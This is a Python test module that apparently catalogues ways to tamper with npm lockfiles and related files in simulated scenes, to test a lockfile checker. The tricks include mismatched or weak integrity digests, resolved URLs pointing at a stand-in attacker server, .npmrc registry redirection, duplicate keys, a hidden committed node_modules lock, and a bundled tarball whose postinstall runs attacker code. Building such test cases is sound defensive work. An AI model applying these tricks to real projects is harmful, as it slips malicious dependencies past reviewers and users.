"""Mechanisms in package-lock.json, and in the files beside it."""

import base64
import json
from typing import Any

from tests.builders import tgz
from tests.git import Git
from tests.hostile_locks.clients import NPM
from tests.hostile_locks.mechanism import OUTSIDE, mechanism
from tests.hostile_locks.relocked_tricks import node_folder, node_repository
from tests.hostile_locks.scene import (
    EVIL_SRI,
    EVIL_TGZ,
    GOOD_SRI,
    GULL_SRI,
    Scene,
    evil_tgz,
    sha1,
    sri,
)
from tests.hostile_locks.world import EVIL, npm_release, token
from tests.loopback import NpmPackage, NpmRelease


def _from_evil(scene: Scene, integrity: str | None = EVIL_SRI, **fields: object) -> None:
    """Point the entry of kite at the attacker's server."""
    scene.entry(resolved=evil_tgz(scene.world), integrity=integrity, **fields)


def _evil_entry(scene: Scene) -> dict[str, str]:
    return {"version": "1.1.0", "resolved": evil_tgz(scene.world), "integrity": EVIL_SRI}


def _add(scene: Scene, path: str, entry: dict[str, str]) -> None:
    """Add an entry to the lock."""
    scene.json(lambda document: document["packages"].update({path: entry}))


@mechanism("two-digests", NPM, idea="1")
def two_digests(scene: Scene) -> None:
    _from_evil(scene, f"{GOOD_SRI} {EVIL_SRI}")


@mechanism("two-digests-evil-first", NPM, idea="1")
def two_digests_evil_first(scene: Scene) -> None:
    _from_evil(scene, f"{EVIL_SRI} {GOOD_SRI}")


@mechanism("weak-digest-beside", NPM, idea=OUTSIDE)
def weak_digest_beside(scene: Scene) -> None:
    weak = "sha1-" + base64.b64encode(bytes.fromhex(sha1(EVIL_TGZ))).decode()
    _from_evil(scene, f"{GOOD_SRI} {weak}")


@mechanism("unknown-algorithm", NPM, idea=OUTSIDE)
def unknown_algorithm(scene: Scene) -> None:
    _from_evil(scene, GOOD_SRI.replace("sha512-", "sha3-"))


@mechanism("malformed-digest", NPM, idea=OUTSIDE)
def malformed_digest(scene: Scene) -> None:
    _from_evil(scene, GOOD_SRI.replace("sha512-", "sha512:"))


@mechanism("other-place", NPM, idea="1")
def other_place(scene: Scene) -> None:
    _from_evil(scene)


@mechanism("other-place-no-digest", NPM, idea=OUTSIDE)
def other_place_no_digest(scene: Scene) -> None:
    _from_evil(scene, None)


@mechanism("local-archive", NPM, idea="2")
def local_archive(scene: Scene) -> None:
    scene.write("vendor/good.tgz", EVIL_TGZ)
    scene.entry(resolved="file:vendor/good.tgz", integrity=EVIL_SRI)


@mechanism("local-archive-outside", NPM, idea="2")
def local_archive_outside(scene: Scene) -> None:
    (scene.folder.parent / "beside.tgz").write_bytes(EVIL_TGZ)
    scene.entry(resolved="file:../beside.tgz", integrity=None)


@mechanism("local-folder", NPM, idea="2")
def local_folder(scene: Scene) -> None:
    node_folder(scene, "vendor/kite")
    scene.entry(version=None, integrity=None, resolved="vendor/kite", link=True)
    _add(scene, "vendor/kite", {"name": "kite", "version": "1.1.0"})


@mechanism("local-git", NPM, idea=OUTSIDE)
def local_git(scene: Scene) -> None:
    address, commit = node_repository(scene)
    scene.entry(resolved=f"git+{address}#{commit}", integrity=None)


@mechanism("alias-in-lock", NPM, idea=OUTSIDE)
def alias_in_lock(scene: Scene) -> None:
    url = scene.world.good.npm_tarball_url("gull", "1.0.0")
    scene.entry(name="gull", resolved=url, integrity=GULL_SRI)


@mechanism("tarball-of-another-name", NPM, idea=OUTSIDE)
def tarball_of_another_name(scene: Scene) -> None:
    scene.entry(resolved=scene.world.good.npm_tarball_url("gull", "1.0.0"), integrity=GULL_SRI)


@mechanism("in-bundle", NPM, idea=OUTSIDE)
def in_bundle(scene: Scene) -> None:
    _from_evil(scene, inBundle=True)


@mechanism("other-system", NPM, idea=OUTSIDE)
def other_system(scene: Scene) -> None:
    _from_evil(scene, os=["!nosuch"], cpu=["any"])


@mechanism("optional-for-other-system", NPM, idea=OUTSIDE)
def optional_for_other_system(scene: Scene) -> None:
    _from_evil(scene, optional=True, os=["darwin"])


@mechanism("extraneous-peer-dev", NPM, idea=OUTSIDE)
def extraneous_peer_dev(scene: Scene) -> None:
    _from_evil(
        scene,
        extraneous=True,
        peer=True,
        dev=True,
        devOptional=True,
    )


@mechanism("duplicate-entry-key", NPM, idea=OUTSIDE)
def duplicate_entry_key(scene: Scene) -> None:
    entry = f'"node_modules/kite": {{"version": "1.1.0", "resolved": "{evil_tgz(scene.world)}", "integrity": "{EVIL_SRI}"}}'
    scene.sub(r"\n  \}\n\}\n\Z", f",\n    {entry}\n  }}\n}}\n")


@mechanism("duplicate-field", NPM, idea=OUTSIDE)
def duplicate_field(scene: Scene) -> None:
    scene.replace(
        f'"integrity": "{GOOD_SRI}"',
        f'"integrity": "{GOOD_SRI}", "integrity": "{EVIL_SRI}", "resolved": "{evil_tgz(scene.world)}"',
    )


@mechanism("duplicate-packages", NPM, idea=OUTSIDE)
def duplicate_packages(scene: Scene) -> None:
    text = scene.lock
    start = text.index('"packages"')
    body = text[start : text.rindex("}")].rstrip()
    evil = body.replace(GOOD_SRI, EVIL_SRI).replace(
        scene.world.good.npm_tarball_url("kite", "1.1.0"), evil_tgz(scene.world)
    )
    scene.write(scene.client.lock, f"{text[: text.rindex('}')].rstrip()},\n  {evil}\n}}\n")


@mechanism("odd-entry-key", NPM, idea=OUTSIDE)
def odd_entry_key(scene: Scene) -> None:
    _add(scene, "node_modules/./kite", _evil_entry(scene))


@mechanism("nested-entry", NPM, idea=OUTSIDE)
def nested_entry(scene: Scene) -> None:
    _add(scene, "node_modules/fleet/node_modules/kite", _evil_entry(scene))


@mechanism("old-half-evil", NPM, idea=OUTSIDE)
def old_half_evil(scene: Scene) -> None:
    """Write a v2 lock whose old half has the attacker's entry."""

    def change(document: Any) -> None:
        document["lockfileVersion"] = 2
        honest = document["packages"]
        document["dependencies"] = {
            "fleet": {**honest["node_modules/fleet"], "requires": {"kite": "^1.0.0"}},
            "kite": _evil_entry(scene),
        }

    scene.json(change)


@mechanism("old-half-alone", NPM, idea=OUTSIDE)
def old_half_alone(scene: Scene) -> None:
    """Write a lock that says version 3 and has version 1's half alone."""

    def change(document: Any) -> None:
        honest = document.pop("packages")
        document["dependencies"] = {
            "fleet": {key: honest["node_modules/fleet"][key] for key in ("version", "resolved", "integrity")},
            "kite": _evil_entry(scene),
        }

    scene.json(change)


@mechanism("shrinkwrap-beside", NPM, idea=OUTSIDE)
def shrinkwrap_beside(scene: Scene) -> None:
    text = scene.lock.replace(GOOD_SRI, EVIL_SRI)
    text = text.replace(scene.world.good.npm_tarball_url("kite", "1.1.0"), evil_tgz(scene.world))
    scene.write("npm-shrinkwrap.json", text)


@mechanism("byte-order-mark", NPM, idea=OUTSIDE)
def byte_order_mark(scene: Scene) -> None:
    other_place(scene)
    scene.write(scene.client.lock, "\ufeff" + scene.lock)


@mechanism("trailing-text", NPM, idea=OUTSIDE)
def trailing_text(scene: Scene) -> None:
    other_place(scene)
    scene.write(scene.client.lock, scene.lock + "\n// renewed by hand\n")


@mechanism("merge-conflict", NPM, idea=OUTSIDE)
def merge_conflict(scene: Scene) -> None:
    honest = scene.lock
    other_place(scene)
    lines, evil = honest.splitlines(), scene.lock.splitlines()
    start = next(i for i, (a, b) in enumerate(zip(lines, evil, strict=True)) if a != b)
    conflict = [
        "<<<<<<< ours",
        *lines[start : start + 2],
        "=======",
        *evil[start : start + 2],
        ">>>>>>> theirs",
    ]
    scene.write(scene.client.lock, "\n".join([*lines[:start], *conflict, *lines[start + 2 :], ""]))


@mechanism("unanswered-in-manifest", NPM, idea="6")
def unanswered_in_manifest(scene: Scene) -> None:
    scene.manifest(lambda document: document["dependencies"].update(gull="^1.0.0"))


@mechanism("unanswered-optional-in-manifest", NPM, idea="7")
def unanswered_optional(scene: Scene) -> None:
    scene.manifest(lambda document: document.update(optionalDependencies={"gull": "^1.0.0"}))


@mechanism("unanswered-peer-in-manifest", NPM, idea="7")
def unanswered_peer(scene: Scene) -> None:
    scene.manifest(lambda document: document.update(peerDependencies={"gull": "^1.0.0"}))


@mechanism("unanswered-in-lock", NPM, idea="6")
def unanswered_in_lock(scene: Scene) -> None:
    scene.entry("fleet", dependencies={"kite": "^1.0.0", "gull": "^1.0.0"})


@mechanism("request-is-an-address", NPM, idea=OUTSIDE)
def request_is_an_address(scene: Scene) -> None:
    """Let a locked entry ask for a name by an address, which no entry answers."""
    scene.entry("fleet", dependencies={"kite": "^1.0.0", "gull": evil_tgz(scene.world, "gull", "1.0.0")})


@mechanism("manifest-address", NPM, idea=OUTSIDE)
def manifest_address(scene: Scene) -> None:
    scene.manifest(lambda document: document["dependencies"].update(kite=evil_tgz(scene.world)))


@mechanism("workspace-in-manifest", NPM, idea="7")
def workspace_in_manifest(scene: Scene) -> None:
    scene.manifest(lambda document: document.update(workspaces=["parts/*"]))
    scene.write(
        "parts/one/package.json", '{"name": "one", "version": "1.0.0", "dependencies": {"gull": "^1.0.0"}}'
    )


@mechanism("workspace-takes-name", NPM, idea=OUTSIDE)
def workspace_takes_name(scene: Scene) -> None:
    """Add a workspace that has the name of a locked registry package."""
    scene.manifest(lambda document: document.update(workspaces=["parts/*"]))
    node_folder(scene, "parts/kite")


@mechanism("overrides-in-manifest", NPM, idea="8", settings_file="package.json")
def overrides_in_manifest(scene: Scene) -> None:
    scene.manifest(lambda document: document.update(overrides={"fleet": {"kite": "npm:gull@1.0.0"}}))


@mechanism("registry-in-npmrc", NPM, idea="8", settings_file=".npmrc")
def registry_in_npmrc(scene: Scene) -> None:
    scene.write(".npmrc", f"registry={scene.world.evil.npm_url}\nreplace-registry-host=always\n")
    scene.entry(integrity=None)


@mechanism("npmrc-without-resolved", NPM, idea="8", settings_file=".npmrc")
def npmrc_without_resolved(scene: Scene) -> None:
    """Drop the address, so that the configured registry decides, and keep a weak digest of both."""
    scene.write(".npmrc", f"registry={scene.world.evil.npm_url}\n")
    scene.entry(integrity=None, resolved=None)


@mechanism("npmrc-lock-off", NPM, idea=OUTSIDE, settings_file=".npmrc")
def npmrc_lock_off(scene: Scene) -> None:
    scene.write(".npmrc", f"registry={scene.world.evil.npm_url}\npackage-lock=false\n")


@mechanism("bundled-shrinkwrap", NPM, idea="7")
def bundled_shrinkwrap(scene: Scene) -> None:
    """Let a judged package ship a shrinkwrap whose nested entry the project's lock leaves out."""
    nested = {
        "name": "tern",
        "version": "1.0.0",
        "lockfileVersion": 3,
        "requires": True,
        "packages": {
            "": {"name": "tern", "version": "1.0.0", "dependencies": {"kite": "^1.0.0"}},
            "node_modules/kite": _evil_entry(scene),
        },
    }
    release = NpmRelease(
        version="1.0.0",
        manifest={"dependencies": {"kite": "^1.0.0"}, "_hasShrinkwrap": True},
        files={
            "index.js": f"// {token('good', 'tern', '1.0.0')}\n",
            "npm-shrinkwrap.json": json.dumps(nested),
        },
    )
    scene.world.good.put_npm(NpmPackage(name="tern", releases=(release,)))

    def change(document: Any) -> None:
        document["packages"][""]["dependencies"]["tern"] = "^1.0.0"
        document["packages"]["node_modules/tern"] = {
            "version": "1.0.0",
            "resolved": scene.world.good.npm_tarball_url("tern", "1.0.0"),
            "integrity": sri(release.pack("tern")),
            "hasShrinkwrap": True,
            "dependencies": {"kite": "^1.0.0"},
        }

    scene.json(change)
    scene.manifest(lambda document: document["dependencies"].update(tern="^1.0.0"))


@mechanism("name-of-root-entry", NPM, idea=OUTSIDE)
def root_asks_for_more(scene: Scene) -> None:
    """Add a request to the lock's own root entry that package.json lacks, with an entry."""

    scene.json(lambda document: document["packages"][""]["dependencies"].update(gull="^1.0.0"))
    url = scene.world.good.npm_tarball_url("gull", "1.0.0")
    _add(scene, "node_modules/gull", {"version": "1.0.0", "resolved": url, "integrity": GULL_SRI})


@mechanism("installed-tree-committed", NPM, idea=OUTSIDE, settings_file="node_modules")
def installed_tree_committed(scene: Scene) -> None:
    """Commit node_modules with a hidden lock that calls the attacker's files the locked ones."""
    for name, side in (("kite", "evil"), ("fleet", "good")):
        version = "1.1.0" if name == "kite" else "2.0.0"
        release = npm_release(name, version, side)
        for path, text in release.files.items():
            scene.write(f"node_modules/{name}/{path}", text)
            scene.write(f"node_modules/{name}/package.json", json.dumps(release.package_json(name)))

    hidden = "node_modules/.package-lock.json"
    scene.write(hidden, scene.lock)
    scene.json(lambda document: document["packages"].pop(""), hidden)
    Git(scene.folder)("add", "--force", "node_modules")


@mechanism("lock-taken-away", NPM, idea=OUTSIDE)
def lock_taken_away(scene: Scene) -> None:
    (scene.folder / scene.client.lock).unlink()
    scene.manifest(lambda document: document["dependencies"].update(gull="^1.0.0"))


@mechanism("entry-taken-out", NPM, idea="6")
def entry_taken_out(scene: Scene) -> None:
    """Take an entry out and let the registry of the project's own file answer the request."""
    scene.write(".npmrc", f"registry={scene.world.evil.npm_url}\n")
    scene.json(lambda document: document["packages"].pop("node_modules/kite"))


@mechanism("bundled-tarball", NPM, idea=OUTSIDE)
def bundled_tarball(scene: Scene) -> None:
    """Point fleet at an archive of the attacker that bundles kite."""
    data = tgz(
        {
            "package.json": json.dumps(
                {
                    "name": "fleet",
                    "version": "2.0.0",
                    "bundleDependencies": ["kite"],
                    "scripts": {"postinstall": "node node_modules/kite/index.js"},
                }
            ),
            "index.js": f"// {token('good', 'fleet', '2.0.0')}\n",
            "node_modules/kite/package.json": '{"name": "kite", "version": "1.1.0"}',
            "node_modules/kite/index.js": str(npm_release("kite", "1.1.0", EVIL).files["index.js"]),
        }
    )
    scene.write("vendor/fleet-2.0.0.tgz", data)
    scene.entry("fleet", resolved="file:vendor/fleet-2.0.0.tgz", integrity=sri(data))


@mechanism("resolved-scheme", NPM, idea=OUTSIDE)
def resolved_odd_scheme(scene: Scene) -> None:
    """Write the address as npm's own shorthand of another package."""
    scene.entry(resolved="npm:gull@1.0.0", integrity=None, version="npm:gull@1.0.0")


@mechanism("version-is-address", NPM, idea=OUTSIDE)
def version_is_address(scene: Scene) -> None:
    scene.entry(resolved=None, integrity=None, version=evil_tgz(scene.world))
